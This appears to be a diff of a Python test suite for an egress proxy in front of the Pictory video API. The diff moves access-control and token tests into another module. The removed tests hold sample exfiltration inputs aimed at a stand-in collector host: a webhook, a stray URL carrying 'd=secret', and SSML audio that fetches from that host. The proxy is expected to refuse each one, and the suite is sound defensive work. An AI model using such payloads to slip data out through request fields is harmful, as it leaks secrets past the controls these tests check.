@@ -5,10 +5,10 @@ import time
 from collections import Counter
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
-from dataclasses import replace
 from typing import Any, Final
 
 from pictory_egress.api.hosts import API_HOST, ASSET_HOSTS, UPLOAD_HOST
+from sandbox.calls import RENDER, calls, hosts_named, token
 from sandbox.client import Load, LoadReport
 from sandbox.leaks import search
 from sandbox.pictory.assets import RESULT
@@ -21,11 +21,6 @@ _AT_ONCE: Final = 4
 """``max_concurrent`` of the client called dashboard. Each task gives out its share of it."""
 _SLOW_SECONDS: Final = 2.0
 RESULT_HOST: Final = ASSET_HOSTS[-1]
-_RENDER: Final = {
-    "videoName": "sandbox",
-    "scenes": [{"story": "A door that knows who knocks: www.example.org.", "createSceneOnNewLine": True}],
-}
-_SPEECH: Final = '<speak>Hello <audio src="https://collector.example.net/in?d=secret"/></speak>'
 _RENDER_SECONDS: Final = 30.0
 _TAKEOVER_SECONDS: Final = 30.0
 _REVOCATION_SECONDS: Final = 5.0
@@ -66,98 +61,6 @@ def first_key(stage: Stage, report: Report) -> None:
     )
 
 
-def calls(stage: Stage, report: Report) -> None:
-    """Who may do what: refused without a credential, with a wrong one, and beyond what was granted."""
-    seen = len(stage.pictory.requests())
-    refusals = (
-        ("call without a credential", stage.anonymous(), "GET", "/v1/quota", None, 401, "credential_missing"),
-        (
-            "call with a credential of nobody",
-            stage.stranger(),
-            "GET",
-            "/v1/quota",
-            None,
-            401,
-            "credential_invalid",
-        ),
-        (
-            "operation not granted",
-            stage.client("dashboard"),
-            "POST",
-            "/v2/video/render",
-            _RENDER,
-            403,
-            "operation_not_granted",
-        ),
-        (
-            "operation that does not exist",
-            stage.client("dashboard"),
-            "GET",
-            "/v1/everything",
-            None,
-            403,
-            None,
-        ),
-        (
-            "render that reports to a host not allowed",
-            stage.client("video-pipeline"),
-            "POST",
-            "/v2/video/storyboard/render",
-            {**_RENDER, "webhook": "https://collector.example.net/in"},
-            403,
-            "body_host_not_allowed",
-        ),
-        (
-            "render that names such a host in a field that nobody listed",
-            stage.client("video-pipeline"),
-            "POST",
-            "/v2/video/storyboard/render",
-            {**_RENDER, "anything": [{"else": "see //collector.example.net/in?d=secret"}]},
-            400,
-            "body_url_invalid",
-        ),
-        (
-            "speech that plays a sound from such a host",
-            stage.client("video-pipeline"),
-            "POST",
-            "/v2/video/storyboard/render",
-            {**_RENDER, "scenes": [{"story": _SPEECH, "isSSMLStory": True}]},
-            403,
-            "body_host_not_allowed",
-        ),
-    )
-    for what, client, method, path, body, status, code in refusals:
-        answer = client.call(method, path, body=body)
-        held = answer.status == status and code in (None, answer.code) and bool(answer.code)
-        report.row(f"{what} is refused", f"{answer.status} {answer.code}", held=held)
-    reached = len(stage.pictory.requests()) - seen
-    report.row("refused calls that reached Pictory", str(reached), held=reached == 0)
-    answer = stage.client("video-pipeline").call("GET", "/v1/quota")
-    last = stage.pictory.requests()[-1]
-    report.row(
-        "granted call, with the key added",
-        f"{answer.status}, Pictory saw key {last.key_id}",
-        held=answer.status == 200 and last.key_id == stage.issued[-1].id,
-    )
-
-
-def token(stage: Stage, report: Report) -> None:
-    """A program that asks for a token before it calls: it sends the client's name and credential, and nothing else."""
-    seen = len(stage.pictory.requests())
-    known = stage.client("video-pipeline")
-    asked = {"client_id": "video-pipeline", "client_secret": known.key}
-    answer = stage.anonymous().call("POST", "/v1/oauth2/token", body=asked)
-    call = replace(known, key=str(answer.json.get("access_token", ""))).call("GET", "/v1/quota")
-    wrong = stage.anonymous().call("POST", "/v1/oauth2/token", body={**asked, "client_id": "dashboard"})
-    reached = [request.operation for request in stage.pictory.requests()[seen:]]
-    report.row(
-        "program that asks for a token first",
-        f"{answer.status}, its call {call.status}; with another's credential {wrong.status} {wrong.code}",
-        held=(answer.status, call.status, wrong.code) == (200, 200, "token_client_invalid")
-        and reached == ["account.quota"],
-    )
-
-
 def at_once(stage: Stage, report: Report) -> None:
     """Pictory is slow, and one client has much under way: it is held to its limit, and another one notices nothing."""
     busy, other = stage.client("dashboard"), stage.client("video-pipeline")
@@ -182,7 +85,7 @@ def at_once(stage: Stage, report: Report) -> None:
 def render(stage: Stage, report: Report) -> None:
     """A render job, followed to its end as Pictory's own clients do."""
     client = stage.client("video-pipeline")
-    body = {**_RENDER, "webhook": "https://hooks.example.com/done"}
+    body = {**RENDER, "webhook": "https://hooks.example.com/done"}
     started = client.call("POST", "/v2/video/storyboard/render", body=body)
     job = started.json.get("data", {}).get("job_id") or started.json.get("data", {}).get("jobId", "")
     polls, document = 0, {}
@@ -303,16 +206,6 @@ def operators(stage: Stage, report: Report) -> None:
         answer = str(refused)
     held = "does not know AWSPREVIOUS" in answer and stage.current_version() == before
     report.row("keys rollback, to a dead key", "refused, nothing moved" if held else answer[-200:], held=held)
-
-
-def hosts_named(stage: Stage, report: Report) -> None:
-    """Whatever host a body named that reached Pictory, as the stand-in's own eyes see it."""
-    seen = sorted({host for request in stage.pictory.requests() for host in request.hosts})
-    report.row(
-        "hosts named in bodies that reached Pictory",
-        ", ".join(seen) or "none",
-        held=seen == ["hooks.example.com", "www.example.org"],
-    )
 
 
 def key_nowhere(stage: Stage, report: Report) -> None:
